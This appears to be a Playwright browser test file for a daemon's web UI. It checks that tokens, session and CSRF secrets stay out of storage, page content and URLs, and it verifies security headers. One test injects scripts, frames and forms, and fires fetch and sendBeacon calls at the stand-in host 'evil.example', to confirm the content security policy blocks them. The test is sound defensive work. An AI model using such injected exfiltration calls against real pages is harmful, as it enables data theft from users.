import type { Page } from "playwright-core";
import { describe, expect } from "vitest";
import { filled, opened } from "./support/filled.ts";
import { isLive, signIn } from "./support/states.ts";
import { type Web, webTest } from "./support/web.ts";

const TOKEN = "a-token-that-only-this-test-knows-000000";

const inChromium = webTest();

/** Records every secret of a session that the daemon gives, and every address that a page requests. */
function watchSecrets({ context }: Web) {
  const secrets = new Set<string>();
  const addresses: string[] = [];
  context.on("request", (request) => void addresses.push(request.url()));
  context.on("response", async (answer) => {
    if (!answer.url().includes("/ui/session/") || !answer.ok()) return;
    const { session, csrf } = (await answer.json()) as { session: string; csrf: string };
    secrets.add(session).add(csrf);
  });
  const cookies = async (): Promise<void> => {
    for (const { value } of await context.cookies()) secrets.add(value);
  };
  return { secrets, addresses, cookies };
}

/** Everything that a browser keeps of a page, or shows to scripts of it, but for the page's own memory. */
async function keptOf(page: Page): Promise<string> {
  return await page.evaluate(async () => {
    const stored = [localStorage, sessionStorage].map((storage) => Object.entries(storage));
    const databases = await indexedDB.databases();
    const cached = await caches.keys();
    const workers = await navigator.serviceWorker.getRegistrations();
    const asked = performance.getEntries().map(({ name }) => name);
    const shown = document.documentElement.outerHTML;
    const typed = [...document.querySelectorAll("input")].map(({ value }) => value);
    const told: unknown = history.state;
    const kept = { stored, databases, cached, workers: workers.length, asked, shown, typed, told };
    return JSON.stringify({ ...kept, cookie: document.cookie, at: location.href, name });
  });
}

describe("a daemon that requires tokens", () => {
  const inChromium = webTest({
    toml: `[auth]\ntoken = "${TOKEN}"\nrequire_token_identity = true\n`,
  });
  inChromium(
    "keeps every secret out of storage, page and addresses, from signing in to signing out",
    async ({ web }) => {
      const admin = { authorization: `Bearer ${TOKEN}` };
      const made = await web.call("POST", "/tokens", { actor: "ann" }, admin);
      const { plaintext } = made.body as { readonly plaintext: string };
      const by = { authorization: `Bearer ${plaintext}` };
      await web.call("POST", "/projects", { name: "product", actor: "-" }, by);
      await web.call("POST", "/projects/1/issues", { title: "One", actor: "-" }, by);
      const { secrets, addresses, cookies } = watchSecrets(web);
      const page = await web.open();
      await signIn(page, plaintext);
      await page.locator(".row").first().waitFor();
      await isLive(page);
      await cookies();
      const kept = [await keptOf(page)];
      await page.keyboard.press("Enter");
      await page.locator(".detail[data-focused=true]").waitFor();
      await page.keyboard.press("c");
      await page.locator(".field[data-name=body] textarea").fill("Typed");
      await page.keyboard.press("Control+Enter");
      await page.getByText("Typed").first().waitFor();
      kept.push(await keptOf(page));
      await page.keyboard.press("2");
      await page.goBack();
      kept.push(await keptOf(page));
      await page.getByRole("button", { name: "Sign out" }).click();
      await page.getByRole("heading", { name: "Sign in to svc" }).waitFor();
      kept.push(await keptOf(page));
      // A session and its CSRF value, the cookie, and the token.
      expect(secrets.size).toBe(3);
      for (const secret of [...secrets, plaintext, TOKEN]) {
        expect(secret.length).toBeGreaterThan(30);
        expect(kept.filter((text) => text.includes(secret))).toEqual([]);
        expect(addresses.filter((url) => url.includes(secret))).toEqual([]);
      }
      // After the logout the session is of no use to who kept it.
      const [session = ""] = secrets;
      const answer = await page.request.get("/api/v1/projects", {
        headers: { "x-svc-web-session": session },
      });
      expect(answer.status()).toBe(401);
    },
  );
});

inChromium(
  "the page and its files refuse frames, foreign scripts and content sniffing",
  async ({ web }) => {
    const answers: Record<string, Record<string, string>> = {};
    web.context.on("response", (answer) => {
      answers[new URL(answer.url()).pathname.replace(/-[0-9A-Z]{8}\./, ".")] = answer.headers();
    });
    await filled(web, "One");
    await opened(web);
    const page = answers["/svc"] ?? {};
    const policy = page["content-security-policy"]?.split("; ") ?? [];
    for (const rule of [
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self'",
      "connect-src 'self'",
      "frame-ancestors 'none'",
      "base-uri 'none'",
      "form-action 'none'",
    ])
      expect(policy).toContain(rule);
    expect(page["cache-control"]).not.toContain("public");
    for (const [path, headers] of Object.entries(answers)) {
      if (path.startsWith("/svc"))
        expect([path, headers["x-content-type-options"]]).toEqual([path, "nosniff"]);
      expect([path, headers["access-control-allow-origin"]]).toEqual([path, undefined]);
    }
  },
);

inChromium(
  "a script smuggled into the page by a text could neither load anything, send anything nor open a frame",
  async ({ web }) => {
    await filled(web, "One");
    const page = await opened(web);
    const refused: string[] = [];
    await page.exposeFunction("refusedBy", (rule: string) => void refused.push(rule));
    const before = web.faults.seen.length;
    const sent = new Set<string>();
    page.on("request", (request) => {
      if (!request.url().startsWith(web.origin)) sent.add(request.url());
    });
    // The browser tells of such a request, and that its policy kept it from being sent.
    page.on("requestfailed", (request) => {
      if (request.failure()?.errorText === "csp") sent.delete(request.url());
    });
    await page.evaluate(async (elsewhere) => {
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        (Reflect.get(globalThis, "refusedBy") as (rule: string) => void)(effectiveDirective);
      });
      const add = (name: string, values: object): void =>
        document.body.append(Object.assign(document.createElement(name), values));
      add("script", { textContent: "window.hit = 1" });
      add("script", { src: `${elsewhere}/x.js` });
      add("img", { src: `${elsewhere}/x.png` });
      add("iframe", { src: `${elsewhere}/x` });
      add("object", { data: `${elsewhere}/x` });
      add("base", { href: elsewhere });
      add("form", { action: elsewhere, id: "away" });
      document.querySelector<HTMLFormElement>("#away")?.submit();
      await fetch(elsewhere).catch(() => undefined);
      await fetch(elsewhere, { mode: "no-cors", method: "POST", body: "x" }).catch(() => undefined);
      navigator.sendBeacon(elsewhere, "x");
    }, "https://evil.example");
    const rules = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src"];
    await expect.poll(() => [...new Set(refused)].sort()).toEqual([...rules, "script-src-elem"]);
    expect(await page.evaluate(() => Reflect.get(globalThis, "hit"))).toBeUndefined();
    expect([...sent]).toEqual([]);
    // These refusals are what this test is about.
    web.faults.seen.splice(before);
  },
);
